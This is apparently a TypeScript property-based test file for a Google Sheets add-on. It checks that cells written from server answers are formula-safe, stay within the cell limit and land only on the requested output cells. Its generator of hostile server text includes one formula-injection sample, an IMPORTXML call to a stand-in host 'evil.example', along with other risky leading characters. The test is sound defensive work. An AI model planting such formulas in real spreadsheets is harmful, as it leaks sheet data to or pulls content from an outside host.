// Properties of what the add-on writes (fast-check): every text cell is formula-safe (it does not start with
// = + - @ tab or CR, or it starts with the apostrophe that makes Sheets keep it as text) and fits Sheets' cell
// limit, for any outcome built from any server answer; and writes are planned onto exactly the output cells of
// exactly the rows that asked for them.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  outcomeCells,
  pendingStateCell,
  type RowBefore,
  type RowOutcome,
} from "../../src/core/engine/outcome";
import { decodeRowState } from "../../src/core/engine/row-state";
import type { SyncError } from "../../src/core/requests/classify";
import type { TagChange } from "../../src/core/requests/tags";
import { type CellValue, MAX_CELL_CHARACTERS, textCell } from "../../src/core/sheet/cell";
import { OUTPUT_COLUMNS, type OutputColumn } from "../../src/core/sheet/headers";
import { planWrites, type RowWrite } from "../../src/core/sheet/write-plan";
import { cellValue, runIdText } from "./arbitraries";

const RISKY_START = /^[=+\-@\t\r]/;

function expectSafe(value: CellValue | undefined): void {
  if (typeof value !== "string") return;
  expect(value.length).toBeLessThanOrEqual(MAX_CELL_CHARACTERS);
  if (RISKY_START.test(value)) throw new Error(`not formula-safe: ${JSON.stringify(value.slice(0, 80))}`);
}

/** What a server may say: anything, including formulas, huge texts and unicode. */
const serverText = fc.oneof(
  fc.string({ unit: "binary", maxLength: 60 }),
  fc.constantFrom(
    '=IMPORTXML("https://evil.example","//a")',
    "+1",
    "-1",
    "@x",
    "\t=1",
    "\r=1",
    "'=1",
    "=1+1",
  ),
  fc.integer({ min: 40_000, max: 70_000 }).map((length) => "=".repeat(length)),
);
const syncError: fc.Arbitrary<SyncError> = fc.record(
  {
    code: serverText,
    message: serverText,
    requestId: serverText,
    httpStatus: fc.integer({ min: 100, max: 599 }),
  },
  { requiredKeys: ["code", "message"] },
);
const tagChange: fc.Arbitrary<TagChange> = fc.oneof(
  fc.record({ typed: serverText, sent: serverText, reason: fc.constant("characters removed" as const) }),
  fc.record({ typed: serverText, reason: fc.constant("empty after cleaning" as const) }),
  fc.record({ typed: serverText, sent: serverText, reason: fc.constant("duplicate" as const) }),
);
const fingerprintText = fc.stringMatching(/^[0-9a-z]{1,11}$/);
const outcome: fc.Arbitrary<RowOutcome> = fc.oneof(
  fc.record(
    {
      kind: fc.constant("updated" as const),
      runStatus: serverText,
      dashboardUrl: fc.oneof(
        serverText,
        serverText.map((text) => `https://dashboard.extend.ai/${text}`),
      ),
      syncedAt: fc.date(),
      fingerprint: fingerprintText,
      tagChanges: fc.array(tagChange, { maxLength: 30 }),
    },
    { requiredKeys: ["kind", "runStatus", "syncedAt", "fingerprint", "tagChanges"] },
  ),
  fc.record({ kind: fc.constant("failed" as const), error: syncError }),
  fc.record({
    kind: fc.constant("invalid" as const),
    errors: fc.array(serverText, { minLength: 1, maxLength: 4 }),
  }),
  fc.constant({ kind: "unchanged" as const }),
  fc.constant({ kind: "noop" as const }),
);
const before: fc.Arbitrary<RowBefore> = fc.record({
  runId: runIdText,
  state: fc.oneof(fc.string(), fc.constant("v1 sent=abc of=def done=1234")).map(decodeRowState),
  link: cellValue,
});
const syncId = fc.stringMatching(/^[0-9a-f]{8}$/);

describe("textCell", () => {
  it("writes any text formula-safe, within the cell limit, and with an apostrophe only in front of the text", () => {
    fc.assert(
      fc.property(fc.oneof(serverText, fc.string({ unit: "grapheme", maxLength: 50 })), (text) => {
        const cell = textCell(text);
        expectSafe(cell);
        const stored = cell.startsWith("'") ? cell.slice(1) : cell;
        if (text.length < MAX_CELL_CHARACTERS) expect(stored).toBe(text);
        else expect(text.startsWith(stored.slice(0, 1_000))).toBe(true);
      }),
      { numRuns: 500 },
    );
  });
});

describe("outcomeCells", () => {
  it("writes only formula-safe text within the cell limit, whatever the server said", () => {
    fc.assert(
      fc.property(outcome, before, syncId, (result, row, sync) => {
        const cells = outcomeCells(result, row, sync);
        for (const value of Object.values(cells)) expectSafe(value);
        if (cells.syncedAt !== undefined && cells.syncedAt !== "")
          expect(cells.syncedAt).toBeInstanceOf(Date);
        if (result.kind === "failed") expect(cells.state).not.toMatch(/\bsent=/);
        expectSafe(pendingStateCell(row, sync, "abc123"));
      }),
      { numRuns: 500 },
    );
  });
});

const outputIndexes: fc.Arbitrary<Record<OutputColumn, number>> = fc
  .uniqueArray(fc.integer({ min: 0, max: 20 }), {
    minLength: OUTPUT_COLUMNS.length,
    maxLength: OUTPUT_COLUMNS.length,
  })
  .map(
    (indexes) =>
      Object.fromEntries(OUTPUT_COLUMNS.map((column, at) => [column, indexes[at] ?? 0])) as Record<
        OutputColumn,
        number
      >,
  );
const rowWrite: fc.Arbitrary<RowWrite> = fc.record({
  row: fc.integer({ min: 2, max: 40 }),
  values: fc
    .subarray([...OUTPUT_COLUMNS], { minLength: 0 })
    .chain((columns) =>
      fc
        .tuple(...columns.map(() => cellValue))
        .map((values) => Object.fromEntries(columns.map((column, at) => [column, values[at]]))),
    ),
});

describe("planWrites", () => {
  it("writes every asked cell once, onto its own row and output column, and nothing else", () => {
    fc.assert(
      fc.property(fc.array(rowWrite, { maxLength: 30 }), outputIndexes, (writes, outputs) => {
        const expected = new Map<string, CellValue>();
        const lastByRow = new Map<number, RowWrite>();
        for (const write of writes) lastByRow.set(write.row, write);
        for (const [row, write] of lastByRow)
          for (const [column, value] of Object.entries(write.values))
            expected.set(`${row}:${outputs[column as OutputColumn] + 1}`, value as CellValue);

        const written = new Map<string, CellValue>();
        const allowed = new Set(Object.values(outputs).map((index) => index + 1));
        for (const range of planWrites(writes, outputs)) {
          range.values.forEach((line, r) => {
            line.forEach((value, c) => {
              const key = `${range.row + r}:${range.column + c}`;
              expect(written.has(key)).toBe(false);
              expect(allowed.has(range.column + c)).toBe(true);
              written.set(key, value);
            });
          });
        }
        expect(new Set(written.keys())).toEqual(new Set(expected.keys()));
        for (const [key, value] of expected) expect(written.get(key)).toBe(value);
      }),
      { numRuns: 500 },
    );
  });
});
